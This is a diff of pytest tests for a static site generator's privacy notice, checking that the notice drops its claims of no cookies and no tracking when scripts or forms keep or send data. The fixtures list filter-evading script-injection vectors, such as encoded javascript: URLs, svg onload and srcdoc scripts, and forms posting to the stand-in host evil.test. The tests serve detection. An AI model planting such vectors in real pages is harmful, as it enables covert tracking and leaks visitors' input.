@@ -29,24 +29,86 @@ def test_a_site_that_does_nothing_says_so(make_site):
     assert "Films" not in page.main
 
 
-@pytest.mark.parametrize(("script", "gone", "said"), [
-    ("document.cookie = 'a=1'", ["set no cookies", "store nothing on your device"], "cookies"),
-    ("localStorage.a = 1", ["set no cookies", "store nothing on your device"], "the browser’s storage for sites"),
-    ("navigator.sendBeacon('/')", ["have no trackers and no analytics"], "can send data to a server while you read"),
+@pytest.mark.parametrize(("script", "said"), [
+    ("document.cookie = 'a=1'", "Scripts of this site can use: cookies"),
+    ("localStorage.a = 1", "Scripts of this site can use: the browser’s storage for sites"),
+    ("navigator.sendBeacon('/')", "can send data to a server while you read"),
 ])  # fmt: skip
-def test_a_script_that_keeps_or_sends_something_changes_the_notice(make_site, script, gone, said):
+def test_what_a_script_names_is_said_in_the_notice(make_site, script, said):
     site = make_site({**NOTICE, "assets/js/new.js": script})
+    assert said in site.page("/privacy/").main
+    assert promises(site) == []
+    assert site.codes == ["device", "device"]
+
+
+def promises(site) -> list[str]:
     page = site.page("/privacy/")
-    assert page.all("main li")[: 5 - len(gone)] == [one for one in ALL if one not in gone]
-    assert said in page.main
-    assert ("So there is no cookie banner." in page.main) == ("store" not in gone[-1])
-    assert site.codes == ["device"]
+    kept = [one for one in page.all("main li") if one in ALL]
+    return kept + ["no banner"] * ("cookie banner" in page.main) + ["search"] * ("not sent to us" in page.main)
+
+
+@pytest.mark.parametrize("html", [
+    '<script>fetch("/collect",{method:"POST",body:navigator.userAgent})</script>',
+    '<script>new Image().src="/collect?"+screen.width</script>', '<script>const d=document; d.cookie="a=1"</script>',
+    '<script>document["cookie"]="a=1"</script>', '<script type="module">window.name="a"</script>',
+    '<iframe title="a" srcdoc="&lt;script&gt;document.cookie=1&lt;/script&gt;"></iframe>',
+    '<script src="/files/own.js"></script>', "<p ONCLICK=\"document['cookie']=1\">a</p>", '<svg/onload="a()"></svg>',
+    '<a href="java&#115;cript:a()">a</a>', '<form action=" javascript:a()" role="search"></form>',
+    '<svg><a><animate attributeName="href" to="javascript:a()"/></a></svg>',
+    '<object data="/files/own.js"></object>', '<script type="speculationrules">{}</script>',
+])  # fmt: skip
+def test_whatever_a_page_runs_that_nobody_watches_leaves_no_promise(make_site, html):
+    base = (ENGINE / "templates/base.html").read_text(encoding="utf-8").replace("</body>", f"{html}</body>")
+    search = {"content/pages/search.md": content(body="::: search\n:::\n"), "content/files/own.js": "1"}
+    site = make_site({**NOTICE, **search, "templates/base.html": base})
+    assert promises(site) == []
+    assert "The program that makes the site cannot tell what they do." in site.page("/privacy/").main
+    assert {one.file for one in site.problems if one.code == "device"} == {"templates/base.html"}
+
+
+def test_a_script_of_the_program_that_a_site_has_changed_is_the_sites_own(make_site):
+    search = {"content/pages/search.md": content(body="::: search\n:::\n")}
+    own = (ENGINE / "assets/js/search.js").read_text(encoding="utf-8")
+    assert promises(make_site({**NOTICE, **search, "assets/js/search.js": own})) == [*ALL, "no banner", "search"]
+    site = make_site({**NOTICE, **search, "assets/js/search.js": own + "\nnew Image().src = '/collect';\n"})
+    assert promises(site) == []
+    assert "assets/js/search.js" in site.sentences
+
+
+def test_what_scripts_of_the_site_do_is_said_in_its_own_words(make_site):
+    said = content("notice", "", scripts="It counts visits and keeps **nothing**.")
+    site = make_site({"content/privacy/index.md": said, "assets/js/new.js": "count()"})
+    assert "It counts visits and keeps nothing ." in site.page("/privacy/").main
+    assert promises(site) == []
+    assert site.codes == []
+
+
+@pytest.mark.parametrize("form", [
+    '<form role="search" action="//evil.test/s"><input type="search" name="q" aria-label="a"></form>',
+    '<form action="https://evil.test" method="post"><input type="hidden" name="a"><button>Go</button></form>',
+    ('<form role="search"><input type="search" name="q" aria-label="a"><button formaction="HTTPS:\\\\evil.test">'
+    "a</button></form>"),
+])  # fmt: skip
+def test_a_form_that_leads_elsewhere_is_a_form_and_its_host_is_named(make_site, form):
+    search = {"content/pages/search.md": content(body="::: search\n:::\n")}
+    page = make_site({**NOTICE, **search, **template(form)}).page("/privacy/")
+    assert "ask for no personal details" not in page.main
+    assert "You can fill something in on these pages: Clerk What you fill in can be sent to evil.test." in page.main
+
+
+def test_the_search_may_stand_on_every_page(make_site):
+    search = {"content/pages/search.md": content(body="::: search\n:::\n")}
+    form = (
+        '<form role="search" action="/search/"><input type="search" name="q" aria-label="a"><button>Go</button></form>'
+    )
+    assert "ask for no personal details" in make_site({**NOTICE, **search, **template(form)}).page("/privacy/").main
+    assert "ask for no personal details" not in make_site({"content/pages/search.md": None}).page("/privacy/").main
 
 
 def test_a_script_inside_a_page_is_seen_too(make_site):
     site = make_site({**NOTICE, **template("<script>sessionStorage.a = 1</script>")})
-    assert "store nothing on your device" not in site.page("/privacy/").main
-    assert site.codes == ["device"]
+    assert promises(site) == []
+    assert site.codes == ["device", "device"]
 
 
 def test_a_form_changes_the_notice_which_then_names_the_page(make_site):
@@ -71,7 +133,7 @@ def test_the_search_asks_for_nothing_and_is_explained(make_site):
 
 def test_what_another_site_would_be_asked_for_stops_the_build(make_site):
     site = make_site({**NOTICE, **template('<iframe src="https://films.example.org/1" title="A film"></iframe>')})
-    assert site.codes == ["outside"]
+    assert site.codes == ["outside", "device"]
     assert "https://films.example.org/1" in site.sentences
 
 
